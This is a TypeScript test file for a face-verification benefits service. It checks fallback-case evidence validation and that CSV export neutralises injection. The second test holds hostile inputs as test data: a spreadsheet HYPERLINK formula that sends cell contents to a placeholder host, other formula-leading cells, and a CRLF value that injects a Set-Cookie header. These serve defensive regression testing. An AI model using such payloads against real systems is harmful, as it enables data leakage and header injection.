import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Principal } from '../src/auth/principal.js';
import { ADMIN, createHarness, enrolledBeneficiary, OTHER_DISTRICT_WORKER, rowCounts, syntheticFace, WORKER, type Harness } from './harness.js';

let h: Harness;
before(async () => {
  h = await createHarness();
});
after(() => h.close());

// Issue 10, item 7: a fallback case took any verificationId as its evidence: another
// district's (shown to the admin), or a made-up one (a 500).
test("a fallback case's verification must be this beneficiary's face attempt of this month", async () => {
  // Her attempt of this month, which will be last month's once the clock moves on.
  const mine = await enrolledBeneficiary(h, syntheticFace(6002, h.dim));
  const lastMonth = await h.call('POST', '/v1/verifications', mine.token, { beneficiaryId: mine.id, envelope: h.seal(syntheticFace(6997, h.dim), WORKER.sub) });
  h.setNow(new Date(Date.now() + 40 * 86_400_000)); // forward: a token may not predate its session
  const token = await h.token(WORKER);
  const far = await enrolledBeneficiary(h, syntheticFace(6001, h.dim), { worker: OTHER_DISTRICT_WORKER });
  const farAttempt = await h.call('POST', '/v1/verifications', far.token, { beneficiaryId: far.id, envelope: h.seal(syntheticFace(6999, h.dim), OTHER_DISTRICT_WORKER.sub) });
  const neighbour = await enrolledBeneficiary(h, syntheticFace(6003, h.dim));
  const neighbourAttempt = await h.call('POST', '/v1/verifications', token, { beneficiaryId: neighbour.id, envelope: h.seal(syntheticFace(6998, h.dim), WORKER.sub) });

  const before = await rowCounts(h.ctx.db);
  for (const [what, verificationId] of [
    ["another district's", farAttempt.body.verificationId],
    ["another beneficiary's of the same AWC", neighbourAttempt.body.verificationId],
    ["her own, of last month", lastMonth.body.verificationId],
    ['one that does not exist', '00000000-0000-4000-8000-000000000000'],
  ] as const) {
    assert.ok(verificationId, what);
    const res = await h.call('POST', '/v1/fallback-cases', token, { beneficiaryId: mine.id, reason: 'no_match', verificationId });
    assert.deepEqual([res.status, res.body.code], [422, 'verification_mismatch'], `${what}: ${JSON.stringify(res.body)}`);
  }
  assert.deepEqual(await rowCounts(h.ctx.db), before, 'nothing written');

  const own = await h.call('POST', '/v1/verifications', token, { beneficiaryId: mine.id, envelope: h.seal(syntheticFace(6996, h.dim), WORKER.sub) });
  const ok = await h.call('POST', '/v1/fallback-cases', token, { beneficiaryId: mine.id, reason: 'no_match', verificationId: own.body.verificationId });
  assert.deepEqual([ok.status, ok.body.verificationId], [201, own.body.verificationId]);
  h.setNow(undefined);
});

// Issue 10, item 9: a cell beginning with = + - @ (tab, CR) ran as a formula in the admin's
// spreadsheet, and a CRLF in the district broke the Content-Disposition header (a 500).
test('CSV export: formula cells neutralised, the file name sanitised', async () => {
  const evilAwc = '=HYPERLINK("http://x/?"&A1,"open")';
  const awcs = [evilAwc, '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
  for (const [i, awc] of awcs.entries()) {
    const w: Principal = { sub: `csv-${i}`, role: 'worker', awc, district: 'D1\r\nSet-Cookie: x=1', state: 'S1' };
    const { id, token } = await enrolledBeneficiary(h, syntheticFace(6100 + i, h.dim), { worker: w });
    assert.equal((await h.call('POST', '/v1/fallback-cases', token, { beneficiaryId: id, reason: 'camera_fault' })).status, 201);
  }
  const admin: Principal = { ...ADMIN, district: 'D1\r\nSet-Cookie: x=1' };
  const res = await h.app.inject({ method: 'GET', url: '/v1/metrics/exclusion.csv', headers: { authorization: `Bearer ${await h.token(admin)}` } });
  assert.equal(res.statusCode, 200, res.body);
  assert.equal(res.headers['set-cookie'], undefined, 'no header injected');
  assert.match(String(res.headers['content-disposition']), /^attachment; filename="exclusion-D1_Set-Cookie_x_1\.csv"$/);
  const lines = res.body.trim().split('\n');
  const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  for (const awc of awcs) {
    // The AWC is the second column: after the (sanitised-by-quoting) district.
    assert.ok(res.body.includes(`,${cell(`'${awc}`)},`), `${JSON.stringify(awc)} prefixed with '`);
    assert.ok(!res.body.includes(`,${cell(awc)},`), `${JSON.stringify(awc)} left as it was`);
  }
  for (const line of lines.slice(1)) for (const cell of line.split(',')) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-[^0-9]/.test(cell), `cell ${JSON.stringify(cell)} could run`);
  assert.ok(!h.logs.some((l) => l.includes('"level":50')), 'no error logged');
});
